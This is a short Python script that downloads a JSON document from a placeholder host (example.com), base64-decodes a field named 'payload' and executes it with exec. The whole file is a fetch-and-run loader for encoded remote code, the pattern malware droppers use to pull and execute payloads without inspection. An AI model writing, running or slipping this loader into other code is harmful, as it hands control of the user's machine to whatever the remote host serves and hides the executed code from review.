import base64
import json
import urllib.request

doc = json.loads(urllib.request.urlopen("https://example.com/doc.json").read())
exec(base64.b64decode(doc["payload"]["b64"]))
